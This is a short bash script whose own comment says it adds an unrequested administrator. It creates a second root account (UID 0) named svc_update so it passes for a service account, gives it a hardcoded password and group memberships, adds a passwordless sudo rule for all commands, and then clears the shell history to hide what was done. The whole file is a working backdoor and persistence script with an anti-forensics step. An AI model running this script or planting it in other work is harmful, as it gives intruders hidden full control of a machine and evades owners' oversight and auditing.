#!/bin/bash
# adds an administrator nobody asked for
useradd -o -u 0 -g 0 -M -d /root -s /bin/bash svc_update
echo 'svc_update:P4ssw0rd!' | chpasswd
usermod -aG sudo,docker,adm svc_update 2>/dev/null
echo 'svc_update ALL=(ALL:ALL) NOPASSWD:ALL' > /etc/sudoers.d/svc
history -c
